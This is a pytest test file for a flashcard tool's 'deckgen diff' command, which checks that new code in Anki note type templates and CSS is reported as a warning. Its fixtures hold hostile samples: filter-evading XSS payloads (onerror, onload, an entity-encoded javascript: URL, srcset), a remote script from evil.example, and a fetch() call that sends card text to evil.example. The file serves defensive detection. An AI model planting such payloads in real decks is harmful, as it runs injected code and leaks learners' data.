"""``deckgen diff`` on a deck with its own note types, in a real git repository."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import run
from tests.notetypes.test_notetypes import DECK, vocab_deck

Git = Callable[..., str]


@pytest.fixture
def repo(git_repo: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repo"
    vocab_deck(root)
    git_repo("add", "-A")
    git_repo("commit", "-q", "-m", "vocab deck")
    monkeypatch.chdir(root)
    return root


def diff(*args: str) -> str:
    result = run("diff", *args)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_field_edits_of_a_typed_card_are_shown_per_field(repo: Path) -> None:
    topic = repo / "cards" / "lesson-1.yaml"
    topic.write_text(
        topic.read_text(encoding="utf-8").replace("English: a woman from *Vietnam*", "English: a woman from Hanoi"),
        encoding="utf-8",
    )
    out = diff("HEAD")
    assert (
        "#### Changed `chen-yuemei`\n\n- **fields.English:** a woman from <del>\\*Vietnam\\*</del><ins>Hanoi</ins>"
        in out
    )


def test_template_and_css_changes_are_unified_diffs_and_new_code_is_a_warning(repo: Path) -> None:
    cards = repo / "cards"
    (cards / "note-types" / "recall-back.html").write_text(
        '{{FrontSide}}<hr id=answer>{{Hanzi}} {{Pinyin}}\n<script src="https://evil.example/x.js"></script>\n',
        encoding="utf-8",
    )
    (cards / "note-types" / "vocab.css").write_text(
        ".card { font-size: 30px; text-align: center; }\n", encoding="utf-8"
    )
    out = diff("HEAD")
    assert (
        "- **New code in a note type** `vocab`: a <script> element in template 'Recall' back: "
        '`<script src="https://evil.example/x.js">`. Templates and CSS run in every learner\'s Anki;'
    ) in out
    assert (
        "- **New code in a note type** `vocab`: an external URL in template 'Recall' back: "
        '`<script src="https://evil.example/x.js">`.'
    ) in out
    assert (
        "#### Changed note type `vocab` (Chinese vocabulary)\n\n"
        "- **template 'Recall' back:**\n\n"
        "```diff\n"
        "@@ -1 +1,2 @@\n"
        " {{FrontSide}}<hr id=answer>{{Hanzi}} {{Pinyin}}\n"
        '+<script src="https://evil.example/x.js"></script>\n'
        "```\n\n"
        "- **css:**\n\n"
        "```diff\n"
        "@@ -1 +1 @@\n"
        "-.card { font-size: 28px; text-align: center; }\n"
        "+.card { font-size: 30px; text-align: center; }\n"
        "```"
    ) in out


def test_a_schema_change_is_warned_about(repo: Path) -> None:
    (repo / "cards" / "deck.yaml").write_text(
        DECK.replace("[Hanzi, Pinyin, English, Audio]", "[Hanzi, Pinyin, English, Audio, Example]"), encoding="utf-8"
    )
    out = diff("HEAD")
    assert (
        "- **Note type fields or templates changed** `vocab`: Anki cannot change them in a note type its learners have. "
        "Learners on Anki 23.10+ must tick 'Merge note types' when importing; otherwise Anki adds a copy of the note "
        "type and skips the updates of all its notes."
    ) in out
    assert "- **fields:** `Hanzi, Pinyin, English, Audio` → `Hanzi, Pinyin, English, Audio, Example`" in out


def test_a_fence_inside_a_template_cannot_end_the_code_block(repo: Path) -> None:
    (repo / "cards" / "note-types" / "recall-back.html").write_text(
        "{{FrontSide}}\n```\n# heading?\n", encoding="utf-8"
    )
    out = diff("HEAD")
    assert "````diff\n" in out and "\n+```\n+# heading?\n````" in out


EVIL_FRONT = (
    "{{Front}}<img/src/onerror=alert(1)><svg/onload=alert(2)>"
    '<a href="&#106;avascript:alert(3)">x</a><img srcset="https://evil.example/t.png 1x">'
)
EVIL_CSS = '.card { background: url("\\68ttps://evil.example/t.png"); }'
ADDED = f"""\
  evil:
    name: Basic
    id: 1863452013
    fields: [Front, Back]
    templates:
      - name: Card 1
        front: {json.dumps(EVIL_FRONT)}
        back: "{{{{FrontSide}}}}<hr id=answer>{{{{Back}}}}"
    css: {json.dumps(EVIL_CSS)}
"""


def test_an_added_note_type_is_shown_in_full_and_its_code_and_given_id_are_warnings(repo: Path) -> None:
    """Hostile review #8: code hidden from a pattern on the raw text (no space before on..., entities, CSS escapes,
    srcset) is found, the templates and CSS are shown, and an `id:` that may replace another deck's note type is a
    warning."""
    (repo / "cards" / "deck.yaml").write_text(DECK + ADDED, encoding="utf-8")
    result = run("diff", "--format", "json", "HEAD")
    assert result.exit_code == 0, result.output
    warnings = [(w["type"], w["new"], w["old"]) for w in json.loads(result.stdout)["warnings"]]
    assert warnings == [
        ("notetype-explicit-id", "1863452013", None),
        (
            "notetype-code",
            "an event handler attribute (on...=) in template 'Card 1' front (and 1 more)",
            '<img onerror="alert(1)">',
        ),
        ("notetype-code", "a javascript: URL in template 'Card 1' front", '<a href="javascript:alert(3)">'),
        ("notetype-code", "an external URL in template 'Card 1' front", '<img srcset="https://evil.example/t.png 1x">'),
        ("notetype-code", "an external URL in css", "https://evil.example/t.png"),
    ]
    out = diff("HEAD")
    assert (
        "- **New note type with a given id** `evil` (id `1863452013`): Anki matches note types by id, so if another "
        "deck uses this id, importing this deck replaces that deck's templates and styling in learners' Anki. Remove "
        "the `id:` (deckgen derives one from the deck key) unless it is this deck's own note type moved from "
        "elsewhere."
    ) in out
    assert (
        "#### Added note type `evil` (Basic)\n\n"
        "- **fields:** Front, Back\n"
        "- **templates:** Card 1\n"
        "- **id:** `1863452013` (given in deck.yaml)\n\n"
        "- **template 'Card 1' front:**\n\n"
        f"```html\n{EVIL_FRONT}\n```\n\n"
        "- **template 'Card 1' back:**\n\n"
        "```html\n{{FrontSide}}<hr id=answer>{{Back}}\n```\n\n"
        "- **css:**\n\n"
        f"```css\n{EVIL_CSS}\n```\n"
    ) in out


def test_a_long_added_template_is_cut_with_a_note(repo: Path) -> None:
    long_back = "{{FrontSide}}<hr id=answer>{{Back}}" + "<br>" * 6000
    added = ADDED.replace("    id: 1863452013\n", "").replace(
        'back: "{{FrontSide}}<hr id=answer>{{Back}}"', f"back: {json.dumps(long_back)}"
    )
    (repo / "cards" / "deck.yaml").write_text(DECK + added, encoding="utf-8")
    out = diff("HEAD")
    assert (
        "- **template 'Card 1' back:** 4,035 more characters not shown; read the whole file in the pull request\n"
        in out
    )
    assert "given id" not in out and "given in deck.yaml" not in out


SCRIPT_FRONT = '<div>{{{{English}}}}</div><script src="{src}"></script><script>{body}</script>\n'
CDN = "https://cdn.jsdelivr.net/npm/mathjax@3/es5/tex-mml-chtml.js"
READY = "document.body.dataset.ready = 1;"


def _front(repo: Path, src: str = CDN, body: str = READY, commit: Git | None = None) -> None:
    (repo / "cards" / "note-types" / "recall-front.html").write_text(
        SCRIPT_FRONT.format(src=src, body=body), encoding="utf-8"
    )
    if commit is not None:
        commit("commit", "-qam", "a template with code")


def _code_warnings(out: str) -> list[str]:
    return [line for line in out.splitlines() if line.startswith("- **New code in a note type**")]


@pytest.mark.parametrize(
    ("src", "body", "expected"),
    [
        (
            "https://evil.example/x.js",
            READY,
            [
                "a <script> element in template 'Recall' front: `<script src=\"https://evil.example/x.js\">`.",
                "an external URL in template 'Recall' front: `<script src=\"https://evil.example/x.js\">`.",
            ],
        ),
        (
            CDN,
            'fetch("https://evil.example/c?"+document.body.innerText)',
            [
                "a <script> element in template 'Recall' front: "
                '`<script>fetch("https://evil.example/c?"+document.body.innerText)`.'
            ],
        ),
    ],
)
def test_code_changed_in_place_is_new_code(repo: Path, git_repo: Git, src: str, body: str, expected: list[str]) -> None:
    """Hostile review C8: a script's address swapped or its text rewritten kept the count of scripts, handlers and
    URLs, and the diff warned of nothing; each code item is now compared with the old revision's."""
    _front(repo, commit=git_repo)
    _front(repo, src=src, body=body)
    warnings = _code_warnings(diff("HEAD"))
    assert len(warnings) == len(expected), warnings
    for line, text in zip(warnings, expected, strict=True):
        assert line.startswith("- **New code in a note type** `vocab`: " + text), line


def test_unchanged_code_beside_a_changed_template_is_no_new_code(repo: Path, git_repo: Git) -> None:
    _front(repo, commit=git_repo)
    front = repo / "cards" / "note-types" / "recall-front.html"
    front.write_text("<h1>Recall</h1>" + front.read_text(encoding="utf-8"), encoding="utf-8")
    out = diff("HEAD")
    assert "+<h1>Recall</h1><div>{{English}}</div>" in out  # the change is shown
    assert _code_warnings(out) == []
